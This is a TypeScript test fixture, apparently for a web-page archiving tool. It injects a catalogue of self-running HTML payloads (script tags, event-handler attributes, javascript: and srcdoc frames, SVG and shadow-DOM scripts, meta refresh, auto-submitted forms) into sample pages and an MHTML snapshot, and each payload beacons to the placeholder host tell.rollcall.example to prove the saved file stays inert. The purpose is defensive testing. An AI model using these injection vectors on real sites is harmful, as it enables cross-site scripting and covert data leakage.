/** A company's page that does whatever a page can do once it lives: in a file it must stay dead. */

/** Where each part of the page would tell that it lives, if anybody let it. */
const TOLD = 'https://tell.rollcall.example';
/** Set by any of its scripts, in whatever window they run. */
export const LIVES = 'globalThis.rollcallLives';

const live = (what: string): string =>
  `try{top.rollcallLives=(top.rollcallLives||'')+' ${what}'}catch(e){};fetch('${TOLD}/${what}')`;

/** All that runs or asks for something by itself in a page that is shown. Attributes are in double quotes. */
const PAYLOADS: Record<string, string> = {
  script: `<script>${live('script')}</script>`,
  module: `<script type="module">${live('module')}</script>`,
  'outer script': `<script src="${TOLD}/outer.js"></script>`,
  image: `<img src="${TOLD}/image.png" onerror="${live('onerror')}" onload="${live('onload')}">`,
  'broken image': `<img src="x:" onerror="${live('onerror')}">`,
  svg: `<svg onload="${live('svg')}"><script>${live('svg-script')}</script><image href="${TOLD}/svg.png"></image></svg>`,
  frame: `<iframe src="${TOLD}/frame"></iframe>`,
  'written frame': `<iframe srcdoc="&lt;script&gt;${live('srcdoc')}&lt;/script&gt;"></iframe>`,
  'script frame': `<iframe src="javascript:${live('javascript')}"></iframe>`,
  object: `<object data="${TOLD}/object"></object><embed src="${TOLD}/embed">`,
  style: `<link rel="stylesheet" href="${TOLD}/sheet.css"><style>@import url(${TOLD}/import.css); body { background: url(${TOLD}/background.png) }</style>`,
  hints: `<link rel="preload" as="image" href="${TOLD}/preload.png"><link rel="prefetch" href="${TOLD}/prefetch"><link rel="dns-prefetch" href="${TOLD}">`,
  media: `<video src="${TOLD}/video.mp4" poster="${TOLD}/poster.png" autoplay></video><audio src="${TOLD}/audio.mp3" autoplay></audio>`,
  focus: `<input autofocus onfocus="${live('onfocus')}">`,
  toggle: `<details open ontoggle="${live('ontoggle')}"><summary>x</summary></details>`,
  animation: `<style>@keyframes a { to { color: red } }</style><b style="animation: a 1ms" onanimationend="${live('onanimationend')}">x</b>`,
  template: `<x-a><template shadowrootmode="open"><img src="${TOLD}/shadow.png" onerror="${live('shadow')}"></template></x-a>`,
  refresh: `<meta http-equiv="refresh" content="0.4;url=${TOLD}/refresh">`,
  form: `<iframe name="away"></iframe><form action="${TOLD}/form" id="f" target="away"></form><script>${live('form')};document.forms.f.submit()</script>`,
};

/** The page with all of it in its body, and in its first post. @param html a sample page */
export function living(html: string): string {
  const all = Object.values(PAYLOADS).join('\n');
  const body = /<body[^>]*>/.exec(html)?.[0];
  if (!body) throw new Error('The page has no body.');
  return html.replace(body, () => `${body.replace('>', ` onload="${live('body')}">`)}${all}`);
}

/** Markup as text, wherever a file of ours has a free text. */
export const MARKUP = `<img src=x: onerror="${live('imported').replaceAll('"', '&quot;')}"><script>${live('imported-script')}</script>`;

/** One-file form of saving: the page as a part of a message, and a frame of it as another. */
export function inOneFile(html: string, url: string): string {
  const part = (type: string, location: string, body: string) =>
    `--b\r\nContent-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\nContent-Location: ${location}\r\n\r\n` +
    `${Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`;
  return (
    `From: <Saved by Blink>\r\nSnapshot-Content-Location: ${url}\r\nMIME-Version: 1.0\r\n` +
    `Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n` +
    part('text/html; charset=utf-8', url, html.replace('</body>', '<iframe src="cid:frame@living"></iframe></body>')) +
    part(
      'text/html; charset=utf-8',
      'cid:frame@living',
      `<body onload="${live('part')}"><script>${live('part-script')}</script>`,
    ) +
    '--b--\r\n'
  );
}
